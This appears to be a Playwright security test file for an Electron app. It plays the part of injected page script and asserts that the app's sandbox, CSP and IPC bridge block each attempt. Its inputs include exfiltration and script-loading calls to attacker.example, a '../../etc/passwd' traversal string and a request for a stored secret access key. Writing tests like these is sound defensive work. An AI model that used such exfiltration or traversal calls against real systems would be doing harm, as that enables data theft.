// Attacks from inside the page, as script that got in would make them.
import { expect, test } from './support/world.ts'

test('the page has no Node, no Electron, and only the narrow bridge', async ({ page }) => {
  const found = await page.evaluate(() => ({
    globals: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in window),
    bridge: Object.keys((window as unknown as { hallpass: object }).hallpass).sort(),
  }))
  expect(found).toEqual({ globals: [], bridge: ['call', 'on', 'pathForFile'] })
})

test('a channel outside the contract is refused, and so is a malformed request', async ({ page }) => {
  const attempts = await page.evaluate(async () => {
    const bridge = (window as unknown as { hallpass: { call(channel: string, request: unknown): Promise<unknown> } })
      .hallpass
    const tries: [string, unknown][] = [
      ['vault.get', { entry: 'identity/x/secret-access-key' }],
      ['roles.show', { name: '../../etc/passwd'.repeat(40) }],
      ['identities.read-csv', { path: 7 }],
      ['__proto__', {}],
    ]
    const answers: string[] = []
    for (const [channel, request] of tries) {
      try {
        answers.push(JSON.stringify(await bridge.call(channel, request)))
      } catch (error) {
        answers.push(`threw ${String(error)}`)
      }
    }
    return answers
  })
  expect(attempts).toHaveLength(4)
  for (const answer of attempts) expect(answer).toMatch(/^threw|"ok":false/)
})

test('inline script, eval and foreign script do not run', async ({ page }) => {
  const ran = await page.evaluate(async () => {
    const marks = window as unknown as Record<string, unknown>
    const inline = document.createElement('script')
    inline.textContent = 'window.inlineRan = true'
    document.body.append(inline)
    const foreign = document.createElement('script')
    const settled = new Promise((resolve) => {
      foreign.onload = () => resolve('loaded')
      foreign.onerror = () => resolve('blocked')
    })
    foreign.src = 'https://attacker.example/x.js'
    document.body.append(foreign)
    const foreignEnd = await settled
    // From here on it is the page's own turn: code run straight by the debugger is not bound by the CSP.
    let evaluated = 'ran'
    try {
      // biome-ignore lint/security/noGlobalEval: this is the attack
      window.eval('1')
    } catch {
      evaluated = 'blocked'
    }
    return { inline: marks.inlineRan ?? 'blocked', foreign: foreignEnd, evaluated }
  })
  expect(ran).toEqual({ inline: 'blocked', foreign: 'blocked', evaluated: 'blocked' })
})

test('nothing can be sent out: fetch, image, beacon, socket, frame', async ({ page }) => {
  const sent = await page.evaluate(async () => {
    const url = 'https://attacker.example/?stolen'
    const viaFetch = await fetch(url).then(
      () => 'sent',
      () => 'blocked',
    )
    const viaImage = await new Promise((resolve) => {
      const image = new Image()
      image.onload = () => resolve('sent')
      image.onerror = () => resolve('blocked')
      image.src = url
    })
    const viaSocket = await new Promise((resolve) => {
      try {
        const socket = new WebSocket('wss://attacker.example/')
        socket.onopen = () => resolve('sent')
        socket.onerror = () => resolve('blocked')
      } catch {
        resolve('blocked')
      }
    })
    return { viaFetch, viaImage, viaSocket }
  })
  expect(sent).toEqual({ viaFetch: 'blocked', viaImage: 'blocked', viaSocket: 'blocked' })
})

test('the window cannot be led away, and opens no other', async ({ world }) => {
  const { app, page } = await world.launch()
  const before = page.url()
  await page.evaluate(() => {
    window.open('https://attacker.example/')
    const link = document.createElement('a')
    link.href = 'https://attacker.example/'
    document.body.append(link)
    link.click()
  })
  await page.evaluate(() => {
    window.location.href = 'https://attacker.example/'
  })
  await expect(page.getByRole('main')).toBeVisible()
  expect(page.url()).toBe(before)
  expect(app.windows()).toHaveLength(1)
})

test('every permission is denied', async ({ page }) => {
  const states = await page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read']
    const answers = await Promise.all(
      names.map((name) => navigator.permissions.query({ name: name as PermissionName }).then((status) => status.state)),
    )
    return answers.filter((state) => state !== 'denied')
  })
  expect(states).toEqual([])
})
